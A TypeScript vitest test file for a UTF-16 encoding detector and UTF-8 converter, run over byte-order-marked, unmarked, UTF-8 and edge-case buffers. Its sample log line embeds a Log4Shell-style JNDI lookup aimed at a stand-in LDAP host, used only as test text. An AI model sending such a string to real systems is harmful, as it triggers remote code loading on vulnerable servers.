import { expect, test } from 'vitest'
import { asUtf8, utf16Of } from './utf16.ts'

const text = '2021-12-10 12:00:00 W3SVC1 GET /index.html ${jndi:ldap://x.example/a}\r\n'
const little = Buffer.from(text, 'utf16le')
const big = Buffer.from(little).swap16()

test.each([
  ['little-endian with a mark', Buffer.concat([Buffer.from([0xff, 0xfe]), little]), 'utf-16le'],
  ['big-endian with a mark', Buffer.concat([Buffer.from([0xfe, 0xff]), big]), 'utf-16be'],
  ['little-endian without a mark', little, 'utf-16le'],
  ['big-endian without a mark', big, 'utf-16be'],
  ['UTF-8', Buffer.from(text), null],
  ['nothing', Buffer.alloc(0), null],
  ['zeros', Buffer.alloc(512), null],
  ['numbers of four bytes', Buffer.from(new Uint32Array([1, 2, 3, 4, 5, 6, 7, 8]).buffer), null],
  ['a few bytes', Buffer.from([0x61, 0]), null],
])('%s', (_case, head, written) => {
  expect(utf16Of(head)).toBe(written)
})

test('comes out as the same text however it is cut, without its mark', () => {
  const pieces = [Buffer.from([0xff]), Buffer.from([0xfe]), ...[...little].map((byte) => Buffer.from([byte]))]

  expect(Buffer.concat([...asUtf8(pieces, 'utf-16le')]).toString()).toBe(text)
})
